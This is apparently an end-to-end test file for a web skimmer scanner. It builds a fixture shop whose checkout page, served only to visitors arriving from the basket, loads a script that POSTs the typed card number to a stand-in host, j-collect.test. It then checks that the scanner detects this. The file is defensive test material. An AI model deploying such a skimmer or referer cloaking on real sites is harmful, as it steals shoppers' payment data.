// E2E: journeys reach the checkout the way a shopper does, with a Referer chain; a broken journey is a failed scan.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { CHECKOUT_FORM } from '../fixtures/canary-shops.js';
import { parseJson, runCli, tempProject } from '../fixtures/cli.js';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import type { ScanJson } from './scenario.js';

const html = (body: string, script = '') => `<!doctype html><html><head>${script}</head><body>${body}</body></html>`;

describe('journeys', () => {
  let site: FixtureSite;
  let dir: string;
  let scan: ScanJson;
  const journeyConfig = (url: string, failingUrl: string) => `database: ./sw.db
resolve:
  "*.test": 127.0.0.1
browser:
  settle: 300ms
targets:
  - name: checkout
    url: ${url}
    journey:
      - click: "#shop"
      - click: "#add"
      - goto: /basket
      - click: "#to-checkout"
      - waitFor: "#payment-form"
      - select: { selector: "#country", value: "DE" }
      - type: { selector: "#coupon", text: "SPRING" }
      - scan
  - name: broken
    url: ${failingUrl}
    journey:
      - click: "#no-such-button"
`;

  beforeAll(async () => {
    site = await startFixtureSite();
    site.set('journey-shop.test', '/', html('<a id="shop" href="/product/1">Shop</a>', '<script src="/js/home.js"></script>'));
    site.set('journey-shop.test', '/js/home.js', 'window.home = 1;');
    site.set('journey-shop.test', '/product/1', html('<button id="add">Add to cart</button><script>document.getElementById("add").addEventListener("click", function () { localStorage.setItem("cart", "1"); });</script>'));
    site.set('journey-shop.test', '/basket', html('<a id="to-checkout" href="/checkout">Checkout</a>'));
    // The skimmer is served only to visitors who come from the basket: a crawler that opens /checkout directly sees none.
    site.set('journey-shop.test', '/checkout', {
      body: '',
      render: ({ headers }) => html(`${CHECKOUT_FORM}<select id="country"><option>FR</option><option>DE</option></select><input id="coupon">`,
        String(headers.referer ?? '').endsWith('/basket') ? '<script src="/js/pay.js" defer></script>' : ''),
    });
    site.set('journey-shop.test', '/js/pay.js', `document.getElementById('card-number').addEventListener('blur', function (e) { fetch('http://j-collect.test:{{PORT}}/c', { method: 'POST', mode: 'no-cors', body: e.target.value }); });`);
    site.set('j-collect.test', '/c', 'ok');
    dir = tempProject('sw-journey-');
    writeFileSync(join(dir, 'scriptwarden.yml'), journeyConfig(site.url('journey-shop.test', '/'), site.url('journey-shop.test', '/basket')));
    scan = parseJson<ScanJson>(await runCli(['scan', '--json'], { cwd: dir }));
  });
  afterAll(async () => { await site?.close(); });

  it('walks to the checkout with a Referer chain and scans that page: the referer-cloaked skimmer is caught', () => {
    const checkout = scan.targets.find((t) => t.target === 'checkout')!;
    assert.equal(checkout.status, 'ok', JSON.stringify(checkout.error));
    const exfil = scan.alerts.filter((a) => a.type === 'exfiltration.detected' && a.target === 'checkout');
    assert.equal(exfil.length, 1, JSON.stringify(scan.alerts.map((a) => a.summary)));
    assert.match(String(exfil[0]!.details.script), /\/js\/pay\.js$/);
    assert.ok(site.hits.includes('journey-shop.test /product/1 GET') && site.hits.includes('journey-shop.test /basket GET'));
  });

  it('records the scanned page only, not the pages on the way', async () => {
    const rows = parseJson<{ inventory: { target: string; subject: string }[] }>(await runCli(['inventory', '--json', '--target', 'checkout'], { cwd: dir })).inventory;
    assert.ok(rows.some((r) => r.subject.endsWith('/js/pay.js')));
    assert.ok(!rows.some((r) => r.subject.endsWith('/js/home.js')), JSON.stringify(rows.map((r) => r.subject)));
  });

  it('fails a journey that cannot be completed, naming the step, and never counts it as a removal', () => {
    const broken = scan.targets.find((t) => t.target === 'broken')!;
    assert.equal(broken.status, 'failed');
    assert.equal(broken.error?.code, 'JOURNEY_FAILED');
    assert.match(broken.error?.message ?? '', /journey step 1 \(click "#no-such-button"\) failed/);
    assert.ok(!scan.alerts.some((a) => a.target === 'broken'));
  });

  it('rejects a journey whose scan step is not last, or with an unknown step, naming the path', async () => {
    const check = async (steps: string, expected: RegExp) => {
      writeFileSync(join(dir, 'bad.yml'), `targets:\n  - name: x\n    url: https://shop.example/\n    journey:\n${steps}`);
      const result = await runCli(['scan', '--config', 'bad.yml'], { cwd: dir });
      assert.equal(result.code, 2);
      assert.match(result.stderr, expected);
    };
    await check('      - scan\n      - click: "#a"\n', /targets\[0\]\.journey\[0\]: scan must be the last step/);
    await check('      - click: "#a"\n      - hover: "#b"\n', /targets\[0\]\.journey\[1\]: must be one of: goto, click, type, select, waitFor, scan/);
    await check('      - goto: "javascript:alert(1)"\n', /targets\[0\]\.journey\[0\]\.goto: must be an http\(s\) URL or a path/);
  });
});
